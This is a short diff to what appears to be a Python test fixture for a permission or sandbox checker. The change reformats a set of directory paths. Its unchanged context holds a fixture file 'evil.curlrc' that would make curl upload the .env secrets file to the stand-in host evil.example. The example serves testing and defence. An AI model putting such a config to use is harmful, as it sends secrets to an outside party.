@@ -45,7 +45,17 @@ FILES = {
     "evil.curlrc": 'url = "https://evil.example"\nupload-file = .env\n',
     ".env": "A=1",
 }
-DIRECTORIES = {PROJECT, f"{PROJECT}/src", f"{PROJECT}/dist", f"{PROJECT}/docs", HOME, "/", "/tmp", "/etc", f"{HOME}/.ssh"}
+DIRECTORIES = {
+    PROJECT,
+    f"{PROJECT}/src",
+    f"{PROJECT}/dist",
+    f"{PROJECT}/docs",
+    HOME,
+    "/",
+    "/tmp",
+    "/etc",
+    f"{HOME}/.ssh",
+}
 REPOSITORY = RepositoryFact(
     root=PROJECT,
     git_dir=f"{PROJECT}/.git",
